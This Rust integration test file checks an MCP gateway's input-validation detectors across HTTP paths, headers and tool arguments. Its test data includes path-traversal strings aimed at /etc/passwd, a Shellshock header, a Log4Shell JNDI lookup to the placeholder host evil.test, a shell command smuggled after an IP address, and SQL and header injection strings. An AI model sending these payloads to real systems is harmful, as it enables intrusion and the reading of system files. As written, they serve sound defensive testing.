//! What detectors find, and what comes of it: refused, written down, or let be, as the file says.

use serde_json::{Value, json};

use crate::support::running::{Answer, Running, request};

/// A server whose tools say what they were given, with OAuth off.
fn yaml(more: &str) -> String {
    format!(
        "version: 1
listen: {{address: '{{address}}'}}
tags: {{notes: Notes}}
servers:
  notes:
    tags: [notes]
    stdio: {{command: [portcullis, demo-server, notes, --dir, ./notes]}}
  text:
    tags: [notes]
    stdio: {{command: [portcullis, demo-server, text]}}
oauth: {{enabled: false}}
{more}"
    )
}

fn findings(record: &Value) -> Vec<&str> {
    let found = ["head", "message"].into_iter().filter_map(|part| record["findings"][part].as_array());
    found.flatten().map(|word| word.as_str().unwrap()).collect()
}

/// Refused by the check of this word, on the surface of HTTP, and not a byte of it is said back.
fn refused_by(answer: &Answer, word: &str, payload: &str) {
    assert_eq!((answer.status, answer.json()["error"].as_str()), (400, Some(word)), "{payload}: {answer:?}");
    assert!(!answer.body.contains(payload), "{answer:?}");
}

fn write(gateway: &Running, text: &str) -> Answer {
    gateway.call("/mcp/notes", None, "write_note", json!({"name": "a", "text": text}))
}

#[test]
fn sm24_sm25_what_attacks_in_path_query_and_headers_is_refused_on_every_route() {
    let gateway = Running::start(&yaml(""));
    for (word, path) in [
        ("path-traversal", "/mcp/%2e%2e/admin"),
        ("path-traversal", "/mcp/..%2f..%2fetc/passwd"),
        ("path-traversal", "/healthz/../mcp"),
        ("path-traversal", "/.well-known/%252e%252e/x"),
        ("path-traversal", "/nowhere?next=../../x"),
        ("command-injection", "/mcp?tags=notes;id"),
        ("command-injection", "/oauth/authorize?login_hint=$(id)"),
        ("sql-injection", "/oauth/authorize?login_hint=admin%27--"),
        ("sql-injection", "/healthz?a=1%20OR%201=1"),
        ("header-injection", "/oauth/token?state=a%0d%0aSet-Cookie:x"),
        ("null-byte", "/mcp%00"),
        ("control-characters", "/mcp?tags=%1b[2J"),
        ("bidirectional", "/mcp/%e2%80%ae"),
        ("prototype-pollution", "/mcp?__proto__[x]=1"),
        ("invalid-utf8", "/mcp?tags=%ff"),
        ("oversized", &format!("/{}", "a".repeat(4000))),
    ] {
        for method in ["GET", "POST"] {
            let refused = gateway.send(method, path, &[], "");
            let said = refused.json()["error"].as_str().unwrap_or_default().to_owned();
            assert_eq!(refused.status, 400, "{path}: {refused:?}");
            let record = gateway.last_decision();
            assert!(findings(&record).contains(&word), "{path}: {record}");
            assert!(findings(&record).contains(&said.as_str()), "{path}: {record}");
            assert!(
                record["decision"]["determining"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|reason| reason["policy"] == format!("check/{word}")),
                "{record}"
            );
            assert!(
                !refused.body.contains("passwd") && !refused.body.contains(path.trim_start_matches('/')),
                "{refused:?}"
            );
        }
    }
    for (word, name, value) in [
        ("command-injection", "User-Agent", "() { :; }; /bin/bash -c id"),
        ("command-injection", "User-Agent", "${jndi:ldap://evil.test/x}"),
        ("sql-injection", "X-User", "' OR '1'='1"),
        ("path-traversal", "X-File", "../../etc/passwd"),
        ("header-injection", "X-Lang", "en%0d%0aSet-Cookie: a=b"),
        ("invalid-utf8", "X-Lang", "\u{ff}"),
    ] {
        let value = if word == "invalid-utf8" { b"\xff".to_vec() } else { value.as_bytes().to_vec() };
        let mut raw = format!("GET /healthz HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n{name}: ", gateway.address())
            .into_bytes();
        raw.extend(value);
        raw.extend(b"\r\n\r\n");
        refused_by(&gateway.raw(&raw), word, "etc/passwd");
    }
    // SM-33: nothing of ours is in the way of ordinary callers.
    for (name, value) in [
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
        ("Cookie", "id=42; prefs=a'b--; sh=1"),
        ("Authorization", "Bearer x' OR '1'='1"),
        ("Mcp-Param-Query", "SELECT * FROM t WHERE a = '' OR '1'='1'"),
        ("Accept", "application/json, text/event-stream, */*;q=0.1"),
    ] {
        assert_eq!(gateway.send("GET", "/healthz", &[(name, value)], "").status, 200, "{name}: {value}");
    }
    assert_eq!(gateway.tools("/mcp?tags=notes", None).len(), gateway.tools("/mcp", None).len());
}

#[test]
fn sm24_by_default_arguments_are_reported_and_let_pass() {
    let gateway = Running::start(&yaml(""));
    for (text, found) in [
        ("' OR '1'='1", vec!["sql-injection"]),
        ("127.0.0.1; cat /etc/passwd", vec!["command-injection"]),
        ("../../etc/passwd", vec!["path-traversal"]),
        ("a\u{0}b", vec!["null-byte"]),
        ("\u{1b}[2J", vec!["control-characters"]),
        ("x\u{202e}y", vec!["bidirectional"]),
        ("en\r\nSet-Cookie: a=b", vec!["header-injection"]),
        ("a.__proto__.b", vec!["prototype-pollution"]),
        ("../../x\u{0}\u{202e}", vec!["bidirectional", "null-byte", "path-traversal"]),
        ("fn main() { println!(\"it's ../x; {}\", 1); } // select", vec![]),
        ("SELECT * FROM t WHERE a = 'x' OR b = '';", vec![]),
        ("cd build && make; echo $?", vec![]),
    ] {
        let answer = write(&gateway, text);
        assert_eq!(answer.json()["result"]["isError"], false, "{text:?}: {answer:?}");
        let record = gateway.last_decision();
        assert_eq!((record["decision"]["verdict"].as_str(), findings(&record)), (Some("allow"), found), "{text:?}");
        assert!(!record.to_string().contains("passwd"), "{record}");
    }
}

#[test]
fn sm25_sm37_t200_keys_and_nested_values_are_looked_at_at_any_depth() {
    let gateway =
        Running::start(&yaml("validation: {prototype-pollution: deny, sql-injection: deny, oversized: deny}\n"));
    let deep = |inner: &str, depth: usize| format!("{}{inner}{}", "{\"a\":[".repeat(depth), "]}".repeat(depth));
    for (arguments, word) in [
        (r#"{"name":"a","text":"b","more":{"__proto__":{"x":1}}}"#.to_owned(), "prototype-pollution"),
        (r#"{"name":"a","text":"b","\u005f\u005fproto__":1}"#.to_owned(), "prototype-pollution"),
        (r#"{"name":"a","more":[{"constructor":{"prototype":{"x":1}}}]}"#.to_owned(), "prototype-pollution"),
        (deep(r#""\u0027 OR \u00271\u0027=\u00271""#, 10), "sql-injection"),
        (deep("1", 40), "oversized"),
    ] {
        let message = format!(
            r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"write_note","arguments":{arguments}}}}}"#
        );
        let session = gateway.open("/mcp/notes", None, json!({})).unwrap();
        let headers = [
            ("Content-Type", "application/json"),
            ("Accept", "application/json, text/event-stream"),
            ("Mcp-Session-Id", session.as_str()),
        ];
        let refused = gateway.send("POST", "/mcp/notes", &headers, &message);
        assert_eq!((refused.status, refused.code()), (200, -31001), "{arguments}: {refused:?}");
        assert_eq!(refused.json()["error"]["data"]["checks"], json!([word]), "{arguments}");
        assert_eq!(refused.json()["error"]["data"]["because"], "validation-failed");
        // In pieces it is the same (and the same record says so).
        let record = gateway.last_decision();
        assert_eq!(findings(&record), [word]);
        assert_eq!(record["decision"]["because"], "validation-failed");
        assert_eq!(record["decision"]["determining"][0]["policy"], format!("check/{word}/calls"));
        assert_eq!(record["decision"]["determining"][0]["place"]["line"], 12);
        let chunks: String = message
            .as_bytes()
            .chunks(7)
            .map(|chunk| format!("{:x}\r\n{}\r\n", chunk.len(), std::str::from_utf8(chunk).unwrap()))
            .collect();
        let head = format!(
            "POST /mcp/notes HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\nMcp-Session-Id: {session}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
            gateway.address()
        );
        let again = gateway.raw(format!("{head}{chunks}0\r\n\r\n").as_bytes());
        assert_eq!(again.json()["error"]["data"]["checks"], json!([word]), "{again:?}");
    }
    assert_eq!(write(&gateway, "a plain text").json()["result"]["isError"], false);
}

#[test]
fn sm24_t160_each_server_and_tool_has_what_the_file_says_for_it() {
    let validation = "validation:
  sql-injection: deny
  command-injection: off
  exceptions:
    - {on: [notes/read_note], sql-injection: report}
    - {on: [text], sql-injection: off, command-injection: deny}
    - {on: [mcp], sql-injection: report}
";
    let gateway = Running::start(&yaml(validation));
    let sql = "' OR '1'='1";
    let refused = write(&gateway, sql);
    assert_eq!(refused.json()["error"]["data"]["checks"], json!(["sql-injection"]), "{refused:?}");
    let message = refused.json()["error"]["message"].as_str().unwrap().to_owned();
    assert!(message.contains("`sql-injection`") && !refused.body.contains("1'='1"), "{message}");
    // A tool of it may, and is marked.
    gateway.call("/mcp/notes", None, "read_note", json!({"name": sql}));
    let record = gateway.last_decision();
    assert_eq!((record["decision"]["verdict"].as_str(), findings(&record)), (Some("allow"), vec!["sql-injection"]));
    // Another server does not even look, and minds something else, under whichever name it is called.
    for (path, tool) in [("/mcp/text", "count_words"), ("/mcp", "text__count_words")] {
        let tools = gateway.tools(path, None);
        assert!(tools.iter().any(|name| name == tool), "{tools:?}");
        gateway.call(path, None, tool, json!({"text": sql}));
        assert_eq!(findings(&gateway.last_decision()), Vec::<&str>::new());
        let refused = gateway.call(path, None, tool, json!({"text": "127.0.0.1; cat /etc/passwd"}));
        assert_eq!(refused.json()["error"]["data"]["checks"], json!(["command-injection"]), "{refused:?}");
    }
    write(&gateway, "127.0.0.1; cat /etc/passwd");
    assert_eq!(findings(&gateway.last_decision()), Vec::<&str>::new());
    // What is off at an endpoint or reported there passes, and the record of the request says it.
    let answer = gateway.send(
        "POST",
        "/mcp/notes?x=1%20OR%201=1",
        &[("Content-Type", "application/json")],
        &request("ping", json!({})).to_string(),
    );
    assert_ne!(answer.json()["error"], json!("sql-injection"), "{answer:?}");
    assert_eq!(findings(&gateway.last_decision()), ["sql-injection"]);
    refused_by(&gateway.send("GET", "/healthz?x=1%20OR%201=1", &[], ""), "sql-injection", "1=1");
}

#[test]
fn sm24_t221_what_is_reported_where_requests_have_no_record_has_one_that_is_bounded() {
    let mut gateway =
        Running::start(&yaml("validation: {exceptions: [{on: [health, metadata], sql-injection: report}]}\n"));
    let reported = |gateway: &Running| -> Vec<Value> {
        gateway.audit().into_iter().filter(|record| record["findings"]["head"].is_array()).collect()
    };
    assert_eq!(gateway.send("GET", "/healthz", &[], "").status, 200);
    assert_eq!(reported(&gateway), Vec::<Value>::new());
    let resource = "/.well-known/oauth-protected-resource?x=1%20OR%201=1";
    assert_ne!(gateway.send("GET", resource, &[], "").status, 400);
    let record = gateway.last_decision();
    assert_eq!((record["decision"]["verdict"].as_str(), findings(&record)), (Some("allow"), vec!["sql-injection"]));
    assert_eq!((&record["type"], &record["kind"]), (&json!("decision"), &Value::Null), "{record}");
    for _ in 0..30 {
        assert_eq!(gateway.send("GET", "/healthz?x=1%20OR%201=1", &[], "").status, 200);
    }
    assert!(gateway.stop().success());
    let records = reported(&gateway);
    assert!(records.len() <= 14, "{}", records.len());
    assert_eq!(records.iter().map(|record| record["count"].as_u64().unwrap_or(1)).sum::<u64>(), 31);
    assert!(records.iter().all(|record| record["peer"]["address"] == "127.0.0.1"), "{records:?}");
}

#[test]
fn t203_huge_parameters_of_the_authorization_server_are_refused_at_once() {
    let gateway = Running::start(crate::gateway::DEMO);
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    let huge = "tag:clock+".repeat(10_000);
    for parameter in ["scope", "state", "resource", "client_id", "code"] {
        let begun = std::time::Instant::now();
        let query = gateway.send("GET", &format!("/oauth/authorize?{parameter}={}", &huge[..60_000]), &[], "");
        let body = format!("grant_type=client_credentials&{parameter}={huge}");
        let posted = gateway.send("POST", "/oauth/token", &form, &body);
        let many = format!("grant_type=client_credentials{}", format!("&{parameter}=x").repeat(10_000));
        let many = gateway.send("POST", "/oauth/token", &form, &many);
        for refused in [query, posted, many] {
            assert!(matches!(refused.status, 400 | 413 | 414 | 431), "{parameter}: {refused:?}");
            assert!(refused.body.len() < 1_000, "{parameter}: nothing of it is said back");
        }
        assert!(begun.elapsed() < std::time::Duration::from_secs(2), "{parameter}");
    }
}

#[test]
fn sm24_a_rule_lets_one_tool_have_what_the_others_must_not() {
    let rule = "rules:
  - id: sql-only-where-it-is-read
    forbid: {servers: [notes, text]}
    when: context.findings.contains(\"sql-injection\") && !(resource is Portcullis::Tool && resource.name == \"count_words\")
";
    let gateway = Running::start(&yaml(rule));
    let sql = "' OR '1'='1";
    let refused = write(&gateway, sql);
    assert_eq!(
        (refused.code(), refused.json()["error"]["data"]["because"].as_str()),
        (-31001, Some("condition-failed")),
        "{refused:?}"
    );
    assert_eq!(
        gateway.last_decision()["decision"]["determining"][0]["policy"]
            .as_str()
            .map(|id| id.starts_with("rule/sql-only-where-it-is-read")),
        Some(true)
    );
    let allowed = gateway.call("/mcp/text", None, "count_words", json!({"text": sql}));
    assert_eq!(allowed.json()["result"]["isError"], false, "{allowed:?}");
    assert_eq!(write(&gateway, "it's plain").json()["result"]["isError"], false);
    // What must not be called with it is listed all the same: with something else it may be.
    assert!(gateway.tools("/mcp/notes", None).contains(&"write_note".to_owned()));
}

#[test]
fn t123_t124_a_path_that_is_not_written_exactly_is_never_decided_as_another() {
    let gateway = Running::start(&yaml("validation: {all: off}\n"));
    let list = request("tools/list", json!({})).to_string();
    let headers = [("Content-Type", "application/json")];
    // With every detector off, the router alone still finds nothing there.
    for path in [
        "//mcp",
        "/./mcp",
        "/x/../mcp",
        "/mcp/.",
        "/mcp/%2e",
        "/%6dcp",
        "/mcp%2f",
        "/mcp/%2e%2e/mcp",
        "/mcp;v=1",
        "/MCP",
        "/mcp%00",
        "/mcp%5c",
        "/mcp/notes/",
        "/mcp/notes/.",
    ] {
        let answer = gateway.send("POST", path, &headers, &list);
        assert!((400..=404).contains(&answer.status) && answer.status != 401, "{path}: {answer:?}");
    }
    for path in ["/mcp?/healthz", "/mcp?x=/healthz", "/mcp/notes?/.well-known/x", "/mcp?#"] {
        let answer = gateway.send("POST", path, &headers, &list);
        let plain = gateway.send("POST", path.split('?').next().unwrap(), &headers, &list);
        assert!(answer.status == plain.status || answer.status == 400, "{path}: {answer:?}");
    }
    // And with all of them off nothing is found.
    write(&gateway, "../../etc/passwd' OR '1'='1\u{0}");
    assert_eq!(findings(&gateway.last_decision()), Vec::<&str>::new());
}

#[test]
fn sm24_a_reload_changes_what_is_denied_for_the_next_request() {
    let gateway = Running::start(&yaml(""));
    let sql = "' OR '1'='1";
    assert_eq!(write(&gateway, sql).json()["result"]["isError"], false);
    gateway.reload(&yaml("validation: {sql-injection: deny}\n"));
    gateway.until("the new configuration denies", || write(&gateway, sql).code() == -31001);
    gateway.reload(&yaml("validation: {sql-injection: off}\n"));
    gateway.until("the newest configuration does not", || write(&gateway, sql).code() == 0);
    assert_eq!(findings(&gateway.last_decision()), Vec::<&str>::new());
}
